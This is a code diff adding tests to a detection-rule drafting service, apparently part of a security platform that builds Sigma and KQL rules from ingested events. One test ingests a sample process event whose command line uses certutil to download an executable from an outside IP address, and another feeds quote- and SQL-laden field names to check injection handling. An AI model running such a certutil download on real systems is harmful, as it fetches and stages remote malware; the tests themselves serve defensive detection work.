@@ -4,6 +4,8 @@ import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type DetectionApp, detectionApp, type EventRow } from '../../detections/testing/detection-app.ts';
 import { type DetectionBench, detectionBench } from '../../detections/testing/detection-bench.ts';
+import { createAuditService } from '../../identity/audit/audit-service.ts';
+import { ingestFeature } from '../../ingest/ingest-feature.ts';
 import { createDraftService } from './draft-service.ts';
 
 // Drafts of rules on real engines: events of an attack among an ordinary day.
@@ -160,6 +162,31 @@ describe('a rule drafted from events', () => {
     expect(answer.data.streams).toEqual(['Dns', 'FileEvent']);
   });
 
+  it('[T-draft][T-samples] the events are samples that the saved rule passes', async () => {
+    const { postgres, clock, log } = app.test.platform;
+    const audit = createAuditService({ postgres, clock, log });
+    const { ingest } = ingestFeature(app.test.platform, { audit });
+    const { clusterId, scope: scopeId } = app.company.a;
+    const line = {
+      EventID: 1,
+      Channel: sysmon.Channel,
+      Computer: 'pc-1',
+      UtcTime: '2026-03-04 09:51:00.000',
+      Image: 'C:\\Windows\\System32\\certutil.exe',
+      CommandLine: "certutil.exe -urlcache -f 'http://198.51.100.7/a.exe' a.exe",
+    };
+    const sender = { clusterId, scopeId, sourceId: null, sourceName: 'sample', sourceAddress: '192.0.2.1' };
+    await ingest.ingest(sender, JSON.stringify(line));
+    const [uid = ''] = await found('ProcessEvent | where ProcessName endswith "certutil.exe"');
+    const made = (await draft({ events: [{ uid, time: Date.UTC(2026, 2, 4, 9, 51) }] })).data;
+    expect(made.kql).toMatchObject({ others: 0, matches_all: true });
+    const text = `${made.sigma?.text}${made.sigma?.samples}`;
+    const saved = await app.call(contract.saveOwnRule, { text });
+    expect(saved.http, saved.text).toBe(200);
+    const samples = (await app.call(contract.readSamples, { rule_id: saved.data.rule_id })).data;
+    expect(samples).toMatchObject({ state: 'passed', samples: [{ expect: 'match' }] });
+  });
+
   it('[T-draft] values with quotes, wildcards, backslashes and control characters match what they were taken from', async () => {
     const odd = `"C:\\a*b?\\\\share\\" 'it''s' 100%\t\u0007 {x}: #y \\*z`;
     const time = NOW - 9 * MINUTE - 1;
@@ -175,6 +202,16 @@ describe('a rule drafted from events', () => {
 });
 
 describe('drafts and their limits', () => {
+  it('[T-draft] names below Ext with any characters are asked as names', async () => {
+    for (const name of ["a'b", 'a"b', 'a`b', 'a\\', 'a)b', 'a.b', '{x:String}', 'SELECT 1', '%', '[]']) {
+      const condition = { path: ['Ext', name], operator: 'equals', values: ['x'], is_on: true };
+      const answer = await draft({ events: attackEvents, conditions: [condition] });
+      expect([name, answer.http, answer.data?.kql?.others]).toEqual([name, 200, 0]);
+    }
+    const control = { path: ['Ext', 'a\u0001'], operator: 'equals', values: ['x'], is_on: true };
+    expect((await draft({ events: attackEvents, conditions: [control] })).http).toBe(422);
+  });
+
   it('[T-draft][S13] events of another scope or tenant answer as ones that are not there', async () => {
     const [event] = attackEvents;
     const { b } = app.company;
